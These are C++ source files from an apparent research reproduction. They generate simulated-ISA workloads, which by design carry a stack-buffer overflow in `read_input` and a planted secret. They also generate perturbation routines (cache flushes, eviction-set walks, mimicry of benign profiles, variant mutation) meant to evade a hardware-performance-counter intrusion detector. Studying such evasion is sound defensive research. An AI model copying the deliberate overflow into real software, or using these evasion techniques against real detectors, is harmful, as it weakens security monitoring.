// L2-hitting loads, the streaming-buffer profile.
std::string body_stream(std::uint64_t scale) {
  constexpr std::uint64_t kBytes = 96 * 1024;
  std::string s;
  s += "work:\n";
  // Touch the buffer once so it is mapped-warm in L2.
  s += "    movi r13, 0\n";
  s += "    movi r5, 0\n";
  s += "st_pass_init:\n";
  s += "    movi r14, " + num(scale) + "\n";
  s += "st_pass:\n";
  s += "    movi r13, 0\n";
  s += "st_loop:\n";
  s += "    movi r6, st_buf\n";
  s += "    add r6, r6, r13\n";
  s += "    load r7, [r6]\n";
  s += "    add r5, r5, r7\n";
  s += "    xori r7, r7, 0x1f\n";
  s += "    addi r13, r13, 64\n";
  s += "    movi r7, " + num(kBytes) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, st_loop\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, st_pass\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "st_buf: .space " + num(kBytes + 64) + "\n";
  s += ".text\n";
  return s;
}

// binsearch ("database lookups"): LCG-keyed binary searches over a sorted
// array — one genuinely unpredictable branch per iteration.
std::string body_binsearch(std::uint64_t scale) {
  constexpr std::uint64_t kN = 1024;
  std::string s;
  s += "work:\n";
  // arr[i] = i * 7 (sorted by construction).
  s += "    movi r13, 0\n";
  s += "bs_fill:\n";
  s += "    muli r5, r13, 7\n";
  s += "    movi r6, bs_arr\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    store [r6], r5\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kN) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, bs_fill\n";
  s += "    movi r4, 2024\n";   // lcg
  s += "    movi r5, 0\n";      // found count
  s += "    movi r14, " + num(scale) + "\n";
  s += "bs_query:\n";
  s += lcg_step("r4", "r6");
  s += "    movi r6, " + num(kN * 7) + "\n";
  s += "    remu r8, r4, r6\n"; // key
  s += "    movi r9, 0\n";      // lo
  s += "    movi r10, " + num(kN) + "\n";  // hi
  s += "bs_loop:\n";
  s += "    sub r6, r10, r9\n";
  s += "    movi r7, 1\n";
  s += "    cmpltu r7, r6, r7\n";  // hi - lo < 1 ?
  s += "    bnez r7, bs_done\n";
  s += "    add r11, r9, r10\n";
  s += "    shri r11, r11, 1\n";   // mid
  s += "    movi r6, bs_arr\n";
  s += "    shli r7, r11, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    load r12, [r6]\n";     // arr[mid]
  s += "    cmplt r7, r12, r8\n";  // arr[mid] < key — unpredictable
  s += "    beqz r7, bs_upper\n";
  s += "    addi r9, r11, 1\n";    // lo = mid + 1
  s += "    jmp bs_loop\n";
  s += "bs_upper:\n";
  s += "    mov r10, r11\n";       // hi = mid
  s += "    cmpeq r7, r12, r8\n";
  s += "    add r5, r5, r7\n";
  s += "    jmp bs_loop\n";
  s += "bs_done:\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, bs_query\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "bs_arr: .space " + num(kN * 8) + "\n";
  s += ".text\n";
  return s;
}

// listsum ("ledger walk"): pointer chasing with per-node computation —
// dependent DRAM loads throttled by real work, the linked-data-structure
// profile that sits between pure chasing and pure compute.
std::string body_listsum(std::uint64_t scale) {
  constexpr int kNodes = 8192;  // x 64 B = 512 KiB: every hop misses L2
  std::string s;
  s += "work:\n";
  // node[i] = { next*, value }; permuted ring like pointer_chase.
  s += "    movi r13, 0\n";
  s += "ls_build:\n";
  s += "    addi r5, r13, 1999\n";
  s += "    movi r6, " + num(kNodes) + "\n";
  s += "    remu r5, r5, r6\n";
  s += "    shli r5, r5, 6\n";
  s += "    movi r6, ls_nodes\n";
  s += "    add r5, r6, r5\n";
  s += "    shli r7, r13, 6\n";
  s += "    add r7, r6, r7\n";
  s += "    store [r7], r5\n";
  s += "    store [r7+8], r13\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kNodes) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, ls_build\n";
  // walk: the next-pointer load is the serialising memory hop (issued
  // first, so the value load afterwards is an L1 hit on the same line);
  // ~12 ALU ops of per-node work follow.
  s += "    movi r5, ls_nodes\n";
  s += "    movi r8, 0\n";
  s += "    movi r13, " + num(scale) + "\n";
  s += "ls_walk:\n";
  s += "    load r9, [r5]\n";     // next: the dependent memory hop
  s += "    load r6, [r5+8]\n";   // value
  s += "    mov r5, r9\n";        // advance the chain
  s += "    muli r6, r6, 31\n";
  s += "    addi r6, r6, 7\n";
  s += "    xor r8, r8, r6\n";
  s += "    shri r7, r6, 3\n";
  s += "    add r8, r8, r7\n";
  s += "    andi r7, r6, 0xff\n";
  s += "    sub r8, r8, r7\n";
  s += "    shli r7, r7, 2\n";
  s += "    or r8, r8, r7\n";
  s += "    addi r8, r8, 1\n";
  s += "    xori r8, r8, 0x3c\n";
  s += "    addi r13, r13, -1\n";
  s += "    bnez r13, ls_walk\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r8\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "ls_nodes: .space " + num(kNodes * 64) + "\n";
  s += ".text\n";
  return s;
}

// hashtable ("key-value cache"): random bucket probes over a 512 KiB
// table — memory-bound with short probe loops, the in-memory-cache profile.
std::string body_hashtable(std::uint64_t scale) {
  constexpr std::uint64_t kBuckets = 8192;  // x 64 B = 512 KiB > L2
  std::string s;
  s += "work:\n";
  s += "    movi r4, 99991\n";  // lcg
  s += "    movi r5, 0\n";      // hit count
  s += "    movi r14, " + num(scale) + "\n";
  s += "ht_op:\n";
  s += lcg_step("r4", "r6");
  s += "    movi r6, " + num(kBuckets - 1) + "\n";
  s += "    and r6, r4, r6\n";     // bucket index
  s += "    shli r6, r6, 6\n";
  s += "    movi r7, ht_tab\n";
  s += "    add r6, r7, r6\n";
  s += "    load r7, [r6]\n";      // bucket header (usually a miss)
  s += "    cmpeq r8, r7, r4\n";   // found?
  s += "    bnez r8, ht_hit\n";
  s += "    load r8, [r6+8]\n";    // probe second slot
  s += "    cmpeq r8, r8, r4\n";
  s += "    bnez r8, ht_hit\n";
  s += "    store [r6], r4\n";     // insert
  s += "    jmp ht_next\n";
  s += "ht_hit:\n";
  s += "    addi r5, r5, 1\n";
  s += "ht_next:\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, ht_op\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "ht_tab: .space " + num(kBuckets * 64) + "\n";
  s += ".text\n";
  return s;
}

// interp ("bytecode interpreter"): LCG-driven dispatch through a jump
// table — indirect-jump mispredicts plus a mixed ALU/memory body.
std::string body_interp(std::uint64_t scale) {
  std::string s;
  s += "work:\n";
  s += "    movi r4, 31415\n";  // lcg
  s += "    movi r5, 0\n";      // accumulator
  s += "    movi r14, " + num(scale) + "\n";
  s += "in_step:\n";
  s += lcg_step("r4", "r6");
  s += "    andi r6, r4, 3\n";      // opcode 0..3
  s += "    shli r6, r6, 3\n";
  s += "    movi r7, in_table\n";
  s += "    add r7, r7, r6\n";
  s += "    load r7, [r7]\n";       // handler address
  s += "    jmpr r7\n";             // dispatch: BTB-hostile
  s += "in_op0:\n";
  s += "    add r5, r5, r4\n";
  s += "    jmp in_next\n";
  s += "in_op1:\n";
  s += "    xor r5, r5, r4\n";
  s += "    shri r8, r5, 3\n";
  s += "    jmp in_next\n";
  s += "in_op2:\n";
  s += "    movi r8, in_mem\n";
  s += "    andi r9, r4, 0xf8\n";
  s += "    add r8, r8, r9\n";
  s += "    load r9, [r8]\n";
  s += "    add r5, r5, r9\n";
  s += "    jmp in_next\n";
  s += "in_op3:\n";
  s += "    movi r8, in_mem\n";
  s += "    andi r9, r4, 0xf8\n";
  s += "    add r8, r8, r9\n";
  s += "    store [r8], r5\n";
  s += "    jmp in_next\n";
  s += "in_next:\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, in_step\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 8\n";
  s += "in_table: .word in_op0, in_op1, in_op2, in_op3\n";
  s += ".align 64\n";
  s += "in_mem: .space 256\n";
  s += ".text\n";
  return s;
}

// matmul: dense 24x24 multiply — regular strides, multiply-heavy.
std::string body_matmul(std::uint64_t scale) {
  constexpr int kN = 24;
  std::string s;
  s += "work:\n";
  // Fill A and B once.
  s += "    movi r4, 1717\n";
  s += "    movi r13, 0\n";
  s += "mm_fill:\n";
  s += lcg_step("r4", "r5");
  s += "    andi r5, r4, 0xffff\n";
  s += "    movi r6, mm_a\n";
  s += "    shli r7, r13, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    store [r6], r5\n";
  s += "    movi r6, mm_b\n";
  s += "    add r6, r6, r7\n";
  s += "    xori r5, r5, 0x5a5a\n";
  s += "    store [r6], r5\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kN * kN) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, mm_fill\n";
  s += "    movi r14, " + num(scale) + "\n";
  s += "mm_pass:\n";
  s += "    movi r12, 0\n";  // i
  s += "mm_i:\n";
  s += "    movi r11, 0\n";  // j
  s += "mm_j:\n";
  s += "    movi r8, 0\n";   // acc
  s += "    movi r10, 0\n";  // k
  s += "mm_k:\n";
  s += "    muli r6, r12, " + num(kN * 8) + "\n";
  s += "    shli r7, r10, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    movi r7, mm_a\n";
  s += "    add r6, r7, r6\n";
  s += "    load r5, [r6]\n";      // A[i][k]
  s += "    muli r6, r10, " + num(kN * 8) + "\n";
  s += "    shli r7, r11, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    movi r7, mm_b\n";
  s += "    add r6, r7, r6\n";
  s += "    load r7, [r6]\n";      // B[k][j]
  s += "    mul r5, r5, r7\n";
  s += "    add r8, r8, r5\n";
  s += "    addi r10, r10, 1\n";
  s += "    movi r7, " + num(kN) + "\n";
  s += "    cmplt r7, r10, r7\n";
  s += "    bnez r7, mm_k\n";
  s += "    muli r6, r12, " + num(kN * 8) + "\n";
  s += "    shli r7, r11, 3\n";
  s += "    add r6, r6, r7\n";
  s += "    movi r7, mm_c\n";
  s += "    add r6, r7, r6\n";
  s += "    store [r6], r8\n";
  s += "    addi r11, r11, 1\n";
  s += "    movi r7, " + num(kN) + "\n";
  s += "    cmplt r7, r11, r7\n";
  s += "    bnez r7, mm_j\n";
  s += "    addi r12, r12, 1\n";
  s += "    movi r7, " + num(kN) + "\n";
  s += "    cmplt r7, r12, r7\n";
  s += "    bnez r7, mm_i\n";
  s += "    addi r14, r14, -1\n";
  s += "    bnez r14, mm_pass\n";
  // checksum = sum C[i][i]
  s += "    movi r5, 0\n";
  s += "    movi r13, 0\n";
  s += "mm_sum:\n";
  s += "    muli r6, r13, " + num(kN * 8 + 8) + "\n";
  s += "    movi r7, mm_c\n";
  s += "    add r6, r7, r6\n";
  s += "    load r7, [r6]\n";
  s += "    add r5, r5, r7\n";
  s += "    addi r13, r13, 1\n";
  s += "    movi r7, " + num(kN) + "\n";
  s += "    cmplt r7, r13, r7\n";
  s += "    bnez r7, mm_sum\n";
  s += "    movi r6, result\n";
  s += "    store [r6], r5\n";
  s += "    ret\n";
  s += ".data\n";
  s += ".align 64\n";
  s += "mm_a: .space " + num(kN * kN * 8) + "\n";
  s += "mm_b: .space " + num(kN * kN * 8) + "\n";
  s += "mm_c: .space " + num(kN * kN * 8) + "\n";
  s += ".text\n";
  return s;
}

}  // namespace

const std::vector<WorkloadInfo>& host_catalog() {
  static const std::vector<WorkloadInfo> kHosts = {
      {"basicmath", "Newton isqrt + polynomials (MiBench 'Math')"},
      {"bitcount", "Kernighan popcount over an LCG stream"},
      {"sha", "SHA-1 compression over LCG message blocks"},
      {"qsort", "recursive quicksort of LCG values"},
      {"crc32", "table-driven CRC32 over an LCG byte stream"},
      {"stringsearch", "naive pattern search over a text corpus"},
      {"dijkstra", "O(V^2) shortest paths, LCG-weighted graph"},
      {"susan", "3x3 mean filter over a byte image"},
  };
  return kHosts;
}

const std::vector<WorkloadInfo>& benign_pool_catalog() {
  static const std::vector<WorkloadInfo> kPool = {
      {"pointer_chase", "linked-ring traversal ('browser': miss-heavy)"},
      {"wordcount", "word/line counting ('text editor')"},
      {"matmul", "dense 24x24 integer matrix multiply"},
      {"stream", "strided 96KiB buffer sums ('media player': L2-bound)"},
      {"binsearch", "LCG-keyed binary search ('database': mispredict-heavy)"},
      {"hashtable", "random bucket probes over 512KiB ('kv cache': DRAM-bound)"},
      {"interp", "jump-table dispatch ('interpreter': indirect mispredicts)"},
      {"listsum", "linked-list walk with per-node work ('ledger': mid-CPI)"},
  };
  return kPool;
}

bool is_known_workload(const std::string& name) {
  for (const auto& w : host_catalog())
    if (w.name == name) return true;
  for (const auto& w : benign_pool_catalog())
    if (w.name == name) return true;
  return false;
}

std::string generate_workload_source(const std::string& name,
                                     const WorkloadOptions& options) {
  const std::uint64_t scale = std::max<std::uint64_t>(options.scale, 1);
  std::string body;
  if (name == "basicmath") {
    body = body_basicmath(scale);
  } else if (name == "bitcount") {
    body = body_bitcount(scale);
  } else if (name == "sha") {
    body = body_sha(scale);
  } else if (name == "qsort") {
    body = body_qsort(std::min<std::uint64_t>(scale * 8, 2048));
  } else if (name == "crc32") {
    body = body_crc32(scale * 16);
  } else if (name == "stringsearch") {
    body = body_stringsearch(scale);
  } else if (name == "dijkstra") {
    body = body_dijkstra(scale);
  } else if (name == "susan") {
    body = body_susan(scale);
  } else if (name == "pointer_chase") {
    body = body_pointer_chase(scale * 256);
  } else if (name == "wordcount") {
    body = body_wordcount(scale);
  } else if (name == "matmul") {
    body = body_matmul(std::max<std::uint64_t>(scale / 8, 1));
  } else if (name == "stream") {
    body = body_stream(std::max<std::uint64_t>(scale / 4, 1));
  } else if (name == "binsearch") {
    body = body_binsearch(scale * 4);
  } else if (name == "hashtable") {
    body = body_hashtable(scale * 16);
  } else if (name == "interp") {
    body = body_interp(scale * 32);
  } else if (name == "listsum") {
    body = body_listsum(scale * 8);
  } else {
    CRS_ENSURE(false, "unknown workload '" + name + "'");
  }

  std::string s;
  s += "; workload: " + name + " (scale " + num(scale) + ")\n";
  s += ".org " + num(options.link_base) + "\n";
  s += ".entry _start\n";
  s += scaffold(options.canary);
  s += body;
  s += ".data\n";
  s += ".align 8\n";
  s += "result: .word 0\n";
  if (!options.secret.empty()) {
    s += ".align 64\n";
    s += "host_secret: .ascii \"" + escape_for_ascii(options.secret) + "\"\n";
    s += ".byte 0\n";
  }
  s += ".text\n";
  return s;
}

sim::Program build_workload(const std::string& name,
                            const WorkloadOptions& options) {
  casm::AssembleOptions opt;
  opt.name = name;
  opt.link_base = options.link_base;
  return casm::assemble(
      generate_workload_source(name, options) + casm::runtime_library(), opt);
}

// ---------------------------------------------------------------------------
// C++ mirrors (kept in lockstep with the assembly above).
// ---------------------------------------------------------------------------

namespace mirror {

std::uint64_t basicmath(std::uint64_t scale) {
  std::uint64_t lcg = 12345, sum = 0;
  for (std::uint64_t i = 0; i < scale; ++i) {
    lcg = lcg_next(lcg);
    const std::uint64_t v = lcg;
    std::uint64_t x = v;
    std::uint64_t y = (v >> 1) + 1;
    while (y < x) {
      x = y;
      y = (x + v / x) >> 1;
    }
    sum += x;
    sum ^= ((v * 3 + 7) * v + 11);
  }
  return sum;
}

std::uint64_t bitcount(std::uint64_t scale) {
  std::uint64_t lcg = 98765, count = 0;
  for (std::uint64_t i = 0; i < scale; ++i) {
    lcg = lcg_next(lcg);
    std::uint64_t v = lcg;
    v = v - ((v >> 1) & 0x55555555ull);
    v = (v & 0x33333333ull) + ((v >> 2) & 0x33333333ull);
    v = (v + (v >> 4)) & 0x0f0f0f0full;
    count += ((v * 0x01010101ull) >> 24) & 0xff;
  }
  return count;
}

std::uint64_t crc32(std::uint64_t scale) {
  scale *= 16;  // matches generate_workload_source's scaling
  std::uint64_t table[256];
  for (std::uint64_t n = 0; n < 256; ++n) {
    std::uint64_t c = n;
    for (int k = 0; k < 8; ++k) {
      const bool lsb = (c & 1) != 0;
      c >>= 1;
      if (lsb) c ^= 0xEDB88320ull;
    }
    table[n] = c;
  }
  std::uint64_t lcg = 5381;
  std::uint64_t crc = 0xffffffffull;
  for (std::uint64_t i = 0; i < scale; ++i) {
    lcg = lcg_next(lcg);
    const std::uint64_t byte = (lcg >> 16) & 0xff;
    crc = (crc >> 8) ^ table[(crc ^ byte) & 0xff];
  }
  return crc ^ 0xffffffffull;
}

std::uint64_t qsort_checksum(std::uint64_t n) {
  n = std::min<std::uint64_t>(n * 8, 2048);  // matches the scaling
  std::vector<std::uint64_t> arr(n);
  std::uint64_t lcg = 424243;
  for (auto& v : arr) {
    lcg = lcg_next(lcg);
    v = lcg;
  }
  std::sort(arr.begin(), arr.end());
  std::uint64_t sum = 0;
  for (std::uint64_t i = 0; i < n; ++i) sum += arr[i] * (i + 1);
  return sum;
}

std::uint64_t sha(std::uint64_t scale) {
  constexpr std::uint64_t kMask = 0xffffffffull;
  auto rotl = [](std::uint64_t x, int n) {
    return ((x << n) | (x >> (32 - n))) & kMask;
  };
  std::uint64_t h[5] = {0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476,
                        0xC3D2E1F0};
  std::uint64_t lcg = 7919;
  for (std::uint64_t blk = 0; blk < scale; ++blk) {
    std::uint64_t w[80];
    for (int t = 0; t < 16; ++t) {
      lcg = (lcg * kLcgMul + kLcgAdd) & kMask;  // note: 32-bit state in sha
      w[t] = lcg;
    }
    for (int t = 16; t < 80; ++t) {
      w[t] = rotl(w[t - 3] ^ w[t - 8] ^ w[t - 14] ^ w[t - 16], 1);
    }
    std::uint64_t a = h[0], b = h[1], c = h[2], d = h[3], e = h[4];
    for (int t = 0; t < 80; ++t) {
      std::uint64_t f = 0, k = 0;
      if (t < 20) {
        f = (b & c) | ((b ^ kMask) & d);
        k = 0x5A827999;
      } else if (t < 40) {
        f = b ^ c ^ d;
        k = 0x6ED9EBA1;
      } else if (t < 60) {
        f = (b & c) | (b & d) | (c & d);
        k = 0x8F1BBCDC;
      } else {
        f = b ^ c ^ d;
        k = 0xCA62C1D6;
      }
      const std::uint64_t temp = (rotl(a, 5) + f + e + k + w[t]) & kMask;
      e = d;
      d = c;
      c = rotl(b, 30);
      b = a;
      a = temp;
    }
    h[0] = (h[0] + a) & kMask;
    h[1] = (h[1] + b) & kMask;
    h[2] = (h[2] + c) & kMask;
    h[3] = (h[3] + d) & kMask;
    h[4] = (h[4] + e) & kMask;
  }
  return h[0] ^ h[1] ^ h[2] ^ h[3] ^ h[4];
}

}  // namespace mirror

}  // namespace crs::workloads
