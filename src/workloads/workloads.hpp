// MiBench-like host workloads, written in the simulated ISA.
//
// The paper evaluates with MiBench programs as the exploited host (§III-A:
// basicmath ("Math"), bitcount, SHA, ...) plus "other benign applications
// like browsers, text editors" in the benign profiling pool. Each workload
// here:
//   - carries the vulnerable input path of paper Algorithm 1: `read_input`
//     copies argv[1] into a fixed-size stack buffer with the *attacker-
//     controlled* length (memcpy-style, so payload bytes may be zero),
//   - exposes `read_input` / `read_input_body` labels for frame recon,
//   - runs a computation with a distinctive micro-architectural signature
//     (that distinctiveness is what the HID learns; tests assert the
//     signatures differ),
//   - stores a final checksum at the `result` symbol so tests can verify
//     the computation against a C++ mirror of the same algorithm.
//
// An optional stack-canary build (paper §I discusses Stack Canaries as a
// ROP defense) places the canary between the buffer and the saved return
// address; the overflow then aborts instead of hijacking control.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "sim/program.hpp"

namespace crs::workloads {

struct WorkloadInfo {
  std::string name;
  std::string description;
};

/// The eight MiBench-like hosts: basicmath, bitcount, sha, qsort, crc32,
/// stringsearch, dijkstra, susan.
const std::vector<WorkloadInfo>& host_catalog();

/// Additional benign pool ("browsers, text editors, ..."): pointer_chase,
/// wordcount, matmul. Structurally identical scaffold, different bodies.
const std::vector<WorkloadInfo>& benign_pool_catalog();

/// True when `name` is in either catalogue.
bool is_known_workload(const std::string& name);

struct WorkloadOptions {
  /// Work amount; per-workload unit (loop iterations, blocks, passes...).
  std::uint64_t scale = 50;
  /// Protect read_input with a stack canary (defense evaluation).
  bool canary = false;
  /// Non-empty: plant this secret at the `host_secret` symbol. The host
  /// never touches it (paper §II-A: "the secret as an array that is stored
  /// in the host application; the host never accesses the secret").
  std::string secret;
  std::uint64_t link_base = 0x10000;
};

/// Assembly source (without the runtime library).
std::string generate_workload_source(const std::string& name,
                                     const WorkloadOptions& options);

/// Assembled program (runtime library linked in).
sim::Program build_workload(const std::string& name,
                            const WorkloadOptions& options = {});

/// C++ mirrors of the workload computations, used by tests to verify the
/// simulated runs end-to-end (same LCG, same algorithm, same checksum).
namespace mirror {
std::uint64_t basicmath(std::uint64_t scale);
std::uint64_t bitcount(std::uint64_t scale);
std::uint64_t crc32(std::uint64_t scale);
std::uint64_t qsort_checksum(std::uint64_t n);
/// SHA-1 state XOR-fold after `scale` blocks of LCG data.
std::uint64_t sha(std::uint64_t scale);
}  // namespace mirror

}  // namespace crs::workloads
