// Defense-aware dynamic perturbation generation (paper §II-E, Algorithm 2).
//
// The perturbation routine is a parameterised ladder of `if (i < v)` blocks
// whose bodies clflush+mfence the loop variables' own memory locations and
// step the variables — contaminating exactly the HPC events the HID trains
// on (cache misses/accesses, branches, instruction mix). Varying the
// parameters {a, b, steps, loop count, extra ladders, delay} yields a new
// micro-architectural signature per variant: "each generated variant
// producing a different HPC pattern."
//
// The generator emits assembly text that the attack-binary generator splices
// in; `VariantMutator` implements the adaptation policy — whenever the HID
// detects the current variant, the attacker draws the next one.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "support/rng.hpp"

namespace crs::perturb {

/// Flavour of the dispersal loop's body. Each style imitates a different
/// benign behaviour class, so successive variants drift toward *different*
/// regions of the feature space — the moving-target property that defeats
/// online retraining until the defender has seen every direction.
enum class MimicStyle : int {
  kHotAlu = 0,   ///< cache-hot loads + ALU (compute-bound benign)
  kStrided = 1,  ///< strided cold loads (pointer-chasing benign)
  kBranchy = 2,  ///< data-dependent branches (sort/search benign)
  kStores = 3,   ///< store + ALU mix (image/array-writing benign)
};

std::string mimic_style_name(MimicStyle style);

struct PerturbParams {
  int a = 11;         ///< Algorithm 2 line 2
  int b = 6;          ///< Algorithm 2 line 2
  int loop_count = 10;
  int a_step = 50;    ///< Algorithm 2 line 7
  int b_step = 10;    ///< Algorithm 2 lines 12/15
  int extra_ladders = 0;  ///< "More loops can be added here" (line 16)
  int delay = 0;          ///< dispersal-loop iterations (§II-E end)
  MimicStyle style = MimicStyle::kHotAlu;  ///< dispersal-loop flavour
  /// Replace every clflush+mfence pair with an eviction-set walk: the
  /// perturbation for a system that bans unprivileged flush/fence
  /// instructions (§IV) — pairs with the prime+probe covert channel.
  bool flushless = false;

  bool operator==(const PerturbParams&) const = default;

  /// e.g. "a=11 b=6 n=10 as=50 bs=10 x=0 d=0 s=hot_alu"
  std::string describe() const;
};

/// Emits the routine as assembly with entry label `label`. The routine
/// clobbers r4..r9 and uses `.data` words `<label>_a`, `<label>_b`, and
/// `<label>_c<k>` for the extra ladders.
std::string generate_perturb_source(const PerturbParams& params,
                                    std::string_view label = "perturb");

/// Emits a no-op routine with the same label/interface, so the attack
/// binary can be generated "without perturbation" uniformly.
std::string generate_noop_perturb_source(std::string_view label = "perturb");

/// Draws successive perturbation variants. Deterministic per seed; never
/// returns two identical consecutive parameter sets.
class VariantMutator {
 public:
  VariantMutator(const PerturbParams& initial, std::uint64_t seed);

  const PerturbParams& current() const { return current_; }

  /// Mutates to (and returns) the next variant.
  const PerturbParams& next();

  int generation() const { return generation_; }

 private:
  PerturbParams draw();

  PerturbParams current_;
  Rng rng_;
  int generation_ = 0;
};

}  // namespace crs::perturb
