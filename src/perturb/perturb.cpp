#include "perturb/perturb.hpp"

#include "support/error.hpp"

namespace crs::perturb {

namespace {

/// Emits the eviction of `var` (clflush-free): a 16-way aliasing walk over
/// the 32 KiB-strided lines behind it. Clobbers r5, r6, r7.
std::string evict_var() {
  std::string s;
  s += "    mov r7, r4\n";
  // Unrolled (label-free, so every call site stays unique): 16 aliasing
  // fills guarantee eviction from an 8-way set.
  for (int w = 0; w < 16; ++w) {
    s += "    movi r5, 32768\n";
    s += "    add r7, r7, r5\n";
    s += "    load r5, [r7]\n";
  }
  return s;
}

std::string ladder(const std::string& var_label, int step,
                   const std::string& skip_label, bool double_flush,
                   bool flushless) {
  // if (i < *var) { flush(var); fence; *var += step;
  //                 [flush(var); fence; *var -= step;] }
  // In flushless mode the flush+fence pair becomes an eviction-set walk.
  std::string s;
  s += "    movi r4, " + var_label + "\n";
  s += "    load r5, [r4]\n";
  s += "    cmplt r9, r8, r5\n";
  s += "    beqz r9, " + skip_label + "\n";
  if (flushless) {
    s += evict_var();
  } else {
    s += "    clflush [r4]\n";
    s += "    mfence\n";
  }
  s += "    load r5, [r4]\n";
  s += "    addi r5, r5, " + std::to_string(step) + "\n";
  s += "    store [r4], r5\n";
  if (double_flush) {
    if (flushless) {
      s += evict_var();
    } else {
      s += "    clflush [r4]\n";
      s += "    mfence\n";
    }
    s += "    load r5, [r4]\n";
    s += "    addi r5, r5, " + std::to_string(-step) + "\n";
    s += "    store [r4], r5\n";
  }
  s += skip_label + ":\n";
  return s;
}

}  // namespace

std::string mimic_style_name(MimicStyle style) {
  switch (style) {
    case MimicStyle::kHotAlu:
      return "hot_alu";
    case MimicStyle::kStrided:
      return "strided";
    case MimicStyle::kBranchy:
      return "branchy";
    case MimicStyle::kStores:
      return "stores";
  }
  return "unknown";
}

std::string PerturbParams::describe() const {
  return "a=" + std::to_string(a) + " b=" + std::to_string(b) +
         " n=" + std::to_string(loop_count) + " as=" + std::to_string(a_step) +
         " bs=" + std::to_string(b_step) +
         " x=" + std::to_string(extra_ladders) + " d=" + std::to_string(delay) +
         " s=" + mimic_style_name(style) + (flushless ? " fl" : "");
}

std::string generate_perturb_source(const PerturbParams& params,
                                    std::string_view label) {
  CRS_ENSURE(params.loop_count > 0, "loop_count must be positive");
  CRS_ENSURE(params.extra_ladders >= 0 && params.extra_ladders <= 8,
             "extra_ladders out of range");
  const std::string l(label);

  std::string s;
  s += "; ---- Algorithm 2: dynamic perturbation (" + params.describe() +
       ") ----\n";
  s += ".text\n";
  s += l + ":\n";
  // Re-initialise the loop variables (Algorithm 2 line 2: locals).
  s += "    movi r4, " + l + "_a\n";
  s += "    movi r5, " + std::to_string(params.a) + "\n";
  s += "    store [r4], r5\n";
  s += "    movi r4, " + l + "_b\n";
  s += "    movi r5, " + std::to_string(params.b) + "\n";
  s += "    store [r4], r5\n";
  for (int k = 0; k < params.extra_ladders; ++k) {
    s += "    movi r4, " + l + "_c" + std::to_string(k) + "\n";
    s += "    movi r5, " + std::to_string(params.a + 3 * (k + 1)) + "\n";
    s += "    store [r4], r5\n";
  }
  s += "    movi r8, 0\n";  // i
  s += l + "_loop:\n";
  s += ladder(l + "_a", params.a_step, l + "_skip_a", /*double_flush=*/false,
              params.flushless);
  s += ladder(l + "_b", params.b_step, l + "_skip_b", /*double_flush=*/true,
              params.flushless);
  for (int k = 0; k < params.extra_ladders; ++k) {
    s += ladder(l + "_c" + std::to_string(k), params.b_step + 2 * (k + 1),
                l + "_skip_c" + std::to_string(k),
                /*double_flush=*/(k % 2) == 1, params.flushless);
  }
  s += "    addi r8, r8, 1\n";
  s += "    movi r9, " + std::to_string(params.loop_count) + "\n";
  s += "    cmplt r9, r8, r9\n";
  s += "    bnez r9, " + l + "_loop\n";
  if (params.delay > 0) {
    // Dispersal (§II-E last paragraph): spread the perturbation in time so
    // per-window HPC magnitudes can also *shrink*. The body imitates a
    // chosen class of benign functional operations (cf. the authors'
    // "imitating functional operations" line of work), so diluted windows
    // drift toward a *specific* benign cluster; mutating the style moves
    // the signature somewhere new.
    s += "    movi r9, " + std::to_string(params.delay) + "\n";
    s += "    movi r4, " + l + "_a\n";
    s += "    movi r6, 77\n";
    s += l + "_delay:\n";
    switch (params.style) {
      case MimicStyle::kHotAlu:
        // Compute-bound benign profile (basicmath-like): LCG arithmetic,
        // a divide, hot memory, and a lightly unpredictable branch.
        s += "    muli r6, r6, 1103515245\n";
        s += "    addi r6, r6, 12345\n";
        s += "    movi r5, 0x7fffffff\n";
        s += "    and r6, r6, r5\n";
        s += "    divu r5, r6, r9\n";
        s += "    load r7, [r4]\n";
        s += "    add r7, r7, r5\n";
        s += "    store [r4+8], r7\n";
        s += "    andi r5, r6, 7\n";
        s += "    beqz r5, " + l + "_dskip\n";  // ~12% taken: mild mispredicts
        s += "    addi r7, r7, 1\n";
        s += l + "_dskip:\n";
        break;
      case MimicStyle::kStrided:
        // Strided loads over a 64 KiB buffer: L1-missing, L2-hitting —
        // the streaming/browser-like benign profile.
        s += "    shli r5, r9, 6\n";
        s += "    andi r5, r5, 0xffff\n";
        s += "    movi r7, " + l + "_buf\n";
        s += "    add r5, r7, r5\n";
        s += "    load r6, [r5]\n";
        s += "    add r6, r6, r9\n";
        s += "    xori r6, r6, 0x1f\n";
        s += "    shri r6, r6, 1\n";
        break;
      case MimicStyle::kBranchy:
        // Search-like benign profile (binsearch): hot loads plus one
        // genuinely unpredictable branch per ~10 instructions.
        s += "    muli r6, r6, 1103515245\n";
        s += "    addi r6, r6, 12345\n";
        s += "    load r5, [r4]\n";
